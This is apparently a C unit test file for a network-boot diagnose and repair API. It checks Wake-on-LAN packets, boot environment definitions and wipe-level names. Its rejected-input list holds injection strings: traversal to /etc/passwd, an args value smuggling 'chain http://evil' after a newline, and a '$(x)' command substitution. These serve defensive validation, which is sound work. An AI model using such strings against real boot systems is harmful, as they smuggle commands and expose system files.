/* The API side of diagnose and repair that needs no server: the magic
 * packet (byte for byte), environment definitions (kinds, paths that may
 * go into a script unescaped, what each kind needs), the names of tests
 * and wipe levels, and the layers a task's boot loads. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "api/diag.h"
#include "api/envs.h"
#include "core/diag_names.h"

static void
test_magic_packet(void **state)
{
	static const uint8_t mac[6] = { 0x52, 0x54, 0x00, 0xaa, 0x00, 0x02 };
	static const uint8_t pw[6] = { 0xa1, 0xb2, 0xc3, 0xd4, 0xe5, 0xf6 };
	uint8_t p[WAKE_PACKET_MAX];

	(void)state;
	assert_int_equal(wake_packet(mac, NULL, p), 102);
	for (int i = 0; i < 6; i++)
		assert_int_equal(p[i], 0xff);
	for (int k = 0; k < 16; k++)
		assert_memory_equal(p + 6 + 6 * k, mac, 6);
	assert_int_equal(wake_packet(mac, pw, p), 108);
	assert_memory_equal(p + 102, pw, 6);
}

static int
env(const char *json, struct api_env *e, char *err)
{
	json_t *o = json_loads(json, 0, NULL);
	int rc = env_from_json(o, "x", e, err, 256);

	json_decref(o);
	return rc;
}

static void
test_env_definitions(void **state)
{
	static const char *const bad[] = {
		"{\"kind\":\"linux\"}",                         /* no kernel */
		"{\"kind\":\"chain\"}",                         /* no program */
		"{\"kind\":\"wimboot\",\"wimboot\":\"w\"}",     /* no boot.wim */
		"{\"kind\":\"dos\",\"kernel\":\"k\"}",
		"{\"kind\":\"linux\",\"kernel\":\"../etc/passwd\"}",
		"{\"kind\":\"linux\",\"kernel\":\"/etc/passwd\"}",
		"{\"kind\":\"linux\",\"kernel\":\"a b\"}",
		"{\"kind\":\"linux\",\"kernel\":\"k\",\"args\":\"a\\nchain http://evil\"}",
		"{\"kind\":\"linux\",\"kernel\":\"k\",\"args\":\"$(x)\"}",
		"{\"kind\":\"linux\",\"kernel\":\"http://h/a b\"}",
		"{\"kind\":\"linux\",\"kernel\":\"k\",\"menu\":1}",
		"{\"kind\":\"linux\",\"kernel\":\"k\",\"initrds\":[\"a\",1]}",
		"[]",
	};
	struct api_env e;
	char err[256];

	(void)state;
	assert_int_equal(env("{\"kind\":\"linux\",\"kernel\":\"rescue/vmlinuz\",\"initrds\":"
	    "[\"rescue/a.img\",\"http://192.0.2.9/b.img\"],\"args\":\"console=ttyS0 quiet\","
	    "\"menu\":true,\"title\":\"Rescue\"}", &e, err), 0);
	assert_string_equal(e.kernel, "rescue/vmlinuz");
	assert_int_equal(e.ninitrd, 2);
	assert_string_equal(e.initrd[1], "http://192.0.2.9/b.img");
	assert_true(e.menu);
	assert_string_equal(e.source, "api");
	assert_int_equal(env("{\"kind\":\"wimboot\",\"wimboot\":\"w/wimboot\",\"boot_wim\":"
	    "\"w/boot.wim\"}", &e, err), 0);
	assert_int_equal(env("{\"kind\":\"chain\",\"efi\":\"x.efi\"}", &e, err), 0);
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		print_message("bad %zu: %s\n", i, bad[i]);
		assert_int_equal(env(bad[i], &e, err), -EINVAL);
		assert_true(err[0] != '\0');
	}
	assert_true(env_name_valid("memtest86+"));
	assert_true(env_name_valid("win-pe_10.1"));
	assert_false(env_name_valid(""));
	assert_false(env_name_valid(".hidden"));
	assert_false(env_name_valid("a/b"));
	assert_false(env_name_valid("a b"));
}

static void
test_names_and_layers(void **state)
{
	struct store_task t = { .type = TASK_DIAGNOSE };
	const char *layer[1];

	(void)state;
	for (int i = 0; i < DIAG_TEST_COUNT; i++)
		assert_int_equal(diag_test_parse(diag_test_name((enum diag_test)i)), i);
	assert_int_equal(diag_test_parse("fan"), -1);
	assert_int_equal(wipe_level_parse("sanitize"), WIPE_SANITIZE);
	assert_int_equal(wipe_level_parse("shred"), -1);
	assert_false(DIAG_TESTS_DEFAULT & DIAG_TESTS_DESTRUCTIVE);
	assert_int_equal(api_task_layers(&t, layer, 1), 1);
	assert_string_equal(layer[0], "diag");
	t.type = TASK_WIPE;
	snprintf(t.params, sizeof t.params, "%s", "{\"level\":\"zero\"}");
	assert_int_equal(api_task_layers(&t, layer, 1), 0);
	snprintf(t.params, sizeof t.params, "%s", "{\"level\":\"sanitize\"}");
	assert_int_equal(api_task_layers(&t, layer, 1), 1);
	t.type = TASK_DEPLOY;           /* imaging loads no layer */
	assert_int_equal(api_task_layers(&t, layer, 1), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_magic_packet),
		cmocka_unit_test(test_env_definitions),
		cmocka_unit_test(test_names_and_layers),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
